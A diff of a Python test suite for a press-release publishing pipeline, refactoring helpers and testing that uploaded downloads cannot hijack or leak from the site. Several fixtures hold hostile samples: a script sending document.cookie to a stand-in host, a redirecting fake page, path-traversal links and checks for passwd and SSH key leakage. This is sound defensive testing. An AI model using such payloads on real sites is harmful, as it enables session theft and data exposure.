@@ -23,6 +23,8 @@ from publish_helpers import (
     publish_json,
     records,
     release_text,
+    release_with,
+    site_bytes,
 )
 
 PDF = b"%PDF-1.4\n% surat edaran resmi\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
@@ -30,23 +32,6 @@ OTHER_PDF = b"%PDF-1.4\n% lampiran lain, isi berbeda\n1 0 obj <<>> endobj\ntrail
 SECRET = b"%PDF-1.4 RAHASIA NIK 3402011234560001\n"
 
 
-
-def _release_with(site: Site, slug: str, body: str, files: dict[str, bytes], *, approve: bool = True,
-                  merge: bool = True) -> str:
-    """A release whose body is ``body``, with ``files`` committed beside it, approved for ``files``."""
-    path = f"content/siaran-pers/2025/{slug}.md"
-    site.switch(f"rilis/{slug}", create=True)
-    for rel, data in files.items():
-        site.write(rel, data)
-    site.write(path, release_text(slug.replace("-", " ").title(), body=body))
-    site.commit(f"Rilis {slug}", site.cast["rina"])
-    if approve:
-        approve_fully(site, path, *files)
-    if merge:
-        site.merge(f"rilis/{slug}", site.cast["wahyu"])
-    else:
-        site.switch("main")
-    return path
 
 
 def _info_with(site: Site, slug: str, lampiran: dict[str, bytes]) -> str:
@@ -78,10 +63,6 @@ def _info_with(site: Site, slug: str, lampiran: dict[str, bytes]) -> str:
     return path
 
 
-def _site_bytes(site: Site) -> list[bytes]:
-    live = site.root / "_site"
-    return [p.read_bytes() for p in live.rglob("*") if p.is_file()] if live.exists() else []
-
 
 def _held(doc: dict[str, object]) -> dict[str, str]:
     held = doc["held"]
@@ -110,7 +91,7 @@ def test_an_item_whose_file_name_is_not_utf8_does_not_stop_approved_releases(sit
     proc = publish(site)
     assert "Traceback" not in proc.stderr
     assert good in records(site.root), proc.stderr
-    assert not any(b"Tidak disetujui" in data for data in _site_bytes(site))
+    assert not any(b"Tidak disetujui" in data for data in site_bytes(site))
 
 
 # --- what an approved page shows is the approved page, and each link its own approved bytes ---------
@@ -118,7 +99,7 @@ def test_an_item_whose_file_name_is_not_utf8_does_not_stop_approved_releases(sit
 
 def test_a_download_named_index_html_does_not_replace_the_page(site: Site) -> None:
     fake = b"<html><body><h1>Halaman palsu</h1><script>document.location='https://x.example'</script></body></html>"
-    path = _release_with(site, "surat-edaran", "Unduh [surat](index.html).\n",
+    path = release_with(site, "surat-edaran", "Unduh [surat](index.html).\n",
                          {"content/siaran-pers/2025/index.html": fake})
     code = publish(site).returncode
     assert code == 1  # an HTML download is refused: it would run on the office's site
@@ -130,7 +111,7 @@ def test_a_download_named_index_html_does_not_replace_the_page(site: Site) -> No
 
 
 def test_two_downloads_with_one_name_keep_their_own_bytes(site: Site) -> None:
-    _release_with(site, "dua-surat", "Unduh [surat A](a/surat.pdf) dan [surat B](b/surat.pdf).\n",
+    release_with(site, "dua-surat", "Unduh [surat A](a/surat.pdf) dan [surat B](b/surat.pdf).\n",
                   {"content/siaran-pers/2025/a/surat.pdf": PDF, "content/siaran-pers/2025/b/surat.pdf": OTHER_PDF})
     code = publish(site).returncode
     assert code in (0, 1)
@@ -213,12 +194,12 @@ TRICKS = {
 def test_no_reference_trick_reaches_a_file_outside_the_digest(site: Site) -> None:
     site.write("content/media/rahasia.pdf", SECRET)
     site.commit("Berkas rahasia", site.cast["rina"])
-    paths = {name: _release_with(site, f"trik-{name}", f"Teks {name}. {body}\n", {}) for name, body in TRICKS.items()}
+    paths = {name: release_with(site, f"trik-{name}", f"Teks {name}. {body}\n", {}) for name, body in TRICKS.items()}
     good = approved_release(site, "bantuan-bibit")
     code, doc = publish_json(site)
     assert code in (0, 1)
     assert good in records(site.root)  # the honest release still goes out
-    assert not any(b"RAHASIA" in data for data in _site_bytes(site))
+    assert not any(b"RAHASIA" in data for data in site_bytes(site))
     assert not any("rahasia" in f.lower() for f in live_files(site.root))
     for name in paths:
         folder = site.root / "_site/siaran-pers/2025" / f"trik-{name}"
@@ -242,7 +223,7 @@ def test_no_reference_trick_reaches_a_file_outside_the_digest(site: Site) -> Non
 
 def test_a_scheme_relative_https_link_is_not_a_hidden_local_link(site: Site) -> None:
     approved_release(site, "bantuan-bibit")
-    path = _release_with(site, "tautan-licik", "Unduh [surat](https:../bantuan-bibit/).\n", {})
+    path = release_with(site, "tautan-licik", "Unduh [surat](https:../bantuan-bibit/).\n", {})
     code, doc = publish_json(site)
     if path in _held(doc):
         return
@@ -252,7 +233,7 @@ def test_a_scheme_relative_https_link_is_not_a_hidden_local_link(site: Site) -> 
 
 def test_no_active_content_is_served_from_a_download(site: Site) -> None:
     script = b"<script>fetch('https://x.example/?c='+document.cookie)</script>"
-    _release_with(site, "peta-lokasi", "Lihat [peta](peta.svg) dan [laporan](laporan.html).\n",
+    release_with(site, "peta-lokasi", "Lihat [peta](peta.svg) dan [laporan](laporan.html).\n",
                   {"content/siaran-pers/2025/peta.svg": b'<svg xmlns="http://www.w3.org/2000/svg">' + script + b"</svg>",
                    "content/siaran-pers/2025/laporan.html": b"<html><body>" + script + b"</body></html>"})
     _info_with(site, "data-html", {"tabel.html": b"<html>" + script + b"</html>"})
@@ -270,7 +251,7 @@ def test_a_governed_file_linked_as_a_download_is_deployed_as_approved(site: Site
     pending = trusted + b"# perubahan yang belum disahkan\n"
     site.write("sop/rilis-uji.yaml", pending)
     site.commit("Ubah SOP tanpa pengesahan", site.cast["wahyu"])
-    path = _release_with(site, "sop-rilis", "Unduh [SOP](../../../sop/rilis-uji.yaml).\n", {}, approve=False,
+    path = release_with(site, "sop-rilis", "Unduh [SOP](../../../sop/rilis-uji.yaml).\n", {}, approve=False,
                          merge=False)
     site.switch("rilis/sop-rilis")
     approve_fully(site, path, "sop/rilis-uji.yaml")  # the chain approves the item and the SOP bytes it links
@@ -302,7 +283,7 @@ def test_links_submodules_and_many_stray_files_hold_nothing_back(site: Site) -> 
     assert code in (0, 1)
     assert good in records(site.root)
     assert "siaran-pers/2025/bantuan-bibit/index.html" in live_files(site.root)
-    assert not any(b"root:x:0" in data or b"ssh-ed25519" in data for data in _site_bytes(site))
+    assert not any(b"root:x:0" in data or b"ssh-ed25519" in data for data in site_bytes(site))
 
 
 def test_an_unapproved_governance_change_does_not_take_effect_or_hold_releases(site: Site) -> None:
@@ -328,11 +309,11 @@ def test_an_older_unapproved_claimant_of_a_slug_does_not_take_it(site: Site) -> 
     assert code in (0, 1)
     assert good in records(site.root) and good not in _held(doc)
     assert "Bantuan Bibit Cabai" in page(site.root, "siaran-pers/2025/bantuan-bibit")
-    assert not any(b"tidak disetujui" in data for data in _site_bytes(site))
+    assert not any(b"tidak disetujui" in data for data in site_bytes(site))
 
 
 def test_a_deleted_item_keeps_its_approved_page_and_download(site: Site) -> None:
-    path = _release_with(site, "surat-edaran", "Unduh [surat](surat-edaran.pdf).\n",
+    path = release_with(site, "surat-edaran", "Unduh [surat](surat-edaran.pdf).\n",
                          {"content/siaran-pers/2025/surat-edaran.pdf": PDF})
     assert publish(site).returncode == 0
     site.git("rm", "-q", path, "content/siaran-pers/2025/surat-edaran.pdf")
@@ -344,7 +325,7 @@ def test_a_deleted_item_keeps_its_approved_page_and_download(site: Site) -> None
 
 
 def test_a_held_change_publishes_the_last_version_with_its_own_references(site: Site) -> None:
-    path = _release_with(site, "surat-edaran", "Unduh [surat](surat-edaran.pdf).\n",
+    path = release_with(site, "surat-edaran", "Unduh [surat](surat-edaran.pdf).\n",
                          {"content/siaran-pers/2025/surat-edaran.pdf": PDF})
     assert publish(site).returncode == 0
     # an unapproved change: the body now links another file, and the old file's bytes change
@@ -357,7 +338,7 @@ def test_a_held_change_publishes_the_last_version_with_its_own_references(site: 
     folder = site.root / "_site/siaran-pers/2025/surat-edaran"
     assert download(site.root, "siaran-pers/2025/surat-edaran", "surat-edaran.pdf").read_bytes() == PDF
     assert not list(folder.rglob("lain.pdf"))
-    assert not any(b"RAHASIA" in data for data in _site_bytes(site))
+    assert not any(b"RAHASIA" in data for data in site_bytes(site))
 
 
 def test_a_broken_photo_of_an_unapproved_item_sharing_the_path_holds_nothing_back(site: Site) -> None:
